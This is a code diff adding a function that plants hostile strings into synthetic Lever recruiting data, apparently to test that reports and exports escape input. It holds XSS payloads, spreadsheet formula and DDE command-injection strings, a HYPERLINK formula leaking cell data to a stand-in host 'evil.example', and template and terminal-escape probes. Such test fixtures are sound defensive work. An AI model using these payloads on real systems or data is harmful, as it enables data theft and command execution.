@@ -426,11 +426,98 @@ def is_archived(opp: dict[str, Any]) -> bool:
     return bool(opp.get("archived")) or opp.get("archivedAt") is not None
 
 
+# Strings an attacker (or a candidate typing their own name) can put into Lever, planted by
+# `hostile_dataset` (`lever-tags sandbox --hostile`): script and markup for HTML reports and
+# widgets, formulas for spreadsheets, mathtext for charts, template syntax, terminal escapes, and
+# a plain tag that looks like a credential header. The `alert(n)` numbers tell which one fired.
+HOSTILE_TAGS: tuple[str, ...] = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(2)>",
+    '"><svg onload=alert(3)>',
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Authorization: Bearer innocentlookingtag",
+    "$\\alpha$ costs $5 and $x^{2}$",
+    "{{7*7}} ${7*7} <%= 7*7 %>",
+    "'=1+1",
+    "\x1b[31mred alert\x1b[0m",
+    "\t=1+2",
+)
+HOSTILE_NAMES: tuple[str, ...] = (
+    "<script>alert(11)</script>",
+    "<img src=x onerror=alert(12)>",
+    '"><svg onload=alert(13)> Smith',
+    '=HYPERLINK("http://evil.example","Ada")',
+    "@Ada+Lovelace",
+)
+HOSTILE_EMAILS: tuple[str, ...] = (
+    "=cmd|' /C calc'!A0@example.com",
+    '"<svg onload=alert(14)>"@example.com',
+)
+
+
+def hostile_dataset(
+    seed: int = 7, contacts: int = 300, opportunities: int | None = None, *, per_string: int = 3
+) -> Dataset:
+    """`generate_dataset` with hostile strings planted (the `--hostile` seed).
+
+    Each of `HOSTILE_TAGS` goes on the first (not every) opportunity of `per_string` contacts
+    with two or more opportunities, so every one is a split pair and appears in every report,
+    CSV and plan; `HOSTILE_NAMES` and `HOSTILE_EMAILS` replace the name and email of some other
+    such contacts (on the contact and on its opportunities), which also get `HOSTILE_TAGS[1]` on
+    their first opportunity so they show up in grids. Deterministic like the generator.
+
+    Example:
+        >>> ds = hostile_dataset(seed=1, contacts=200)
+        >>> sum("<script>alert(1)</script>" in o["tags"] for o in ds.opportunities)
+        3
+    """
+    ds = generate_dataset(seed=seed, contacts=contacts, opportunities=opportunities)
+    by_contact: dict[str, list[dict[str, Any]]] = {}
+    for opp in ds.opportunities:
+        contact = opp.get("contact")
+        if contact and not opp.get("isAnonymized"):
+            by_contact.setdefault(contact, []).append(opp)
+    multi = sorted(c for c, opps in by_contact.items() if len(opps) >= 2)
+    rng = random.Random(seed ^ 0x5EED)
+    rng.shuffle(multi)
+    needed = len(HOSTILE_TAGS) * per_string + len(HOSTILE_NAMES) + len(HOSTILE_EMAILS)
+    if len(multi) < needed:
+        raise ValueError(
+            f"--hostile needs at least {needed} contacts with several opportunities; "
+            f"raise --contacts (these give {len(multi)})"
+        )
+    pool = iter(multi)
+    for tag in HOSTILE_TAGS:
+        for _ in range(per_string):
+            first = min(by_contact[next(pool)], key=lambda o: (o["createdAt"], o["id"]))
+            first["tags"] = [*first["tags"], tag]
+    for name in HOSTILE_NAMES:  # split on a hostile tag too, so the names reach the grids
+        contact = next(pool)
+        ds.contacts[contact]["name"] = name
+        for opp in by_contact[contact]:
+            opp["name"] = name
+        first = min(by_contact[contact], key=lambda o: (o["createdAt"], o["id"]))
+        first["tags"] = [*first["tags"], HOSTILE_TAGS[1]]
+    for email in HOSTILE_EMAILS:
+        contact = next(pool)
+        ds.contacts[contact]["emails"] = [email]
+        for opp in by_contact[contact]:
+            opp["emails"] = [email]
+    return ds
+
+
 __all__ = [
     "CONTACT_LEVEL_TAGS",
+    "HOSTILE_EMAILS",
+    "HOSTILE_NAMES",
+    "HOSTILE_TAGS",
     "POSTING_TAGS",
     "TAG_VARIANTS",
     "Dataset",
     "generate_dataset",
+    "hostile_dataset",
     "is_archived",
 ]
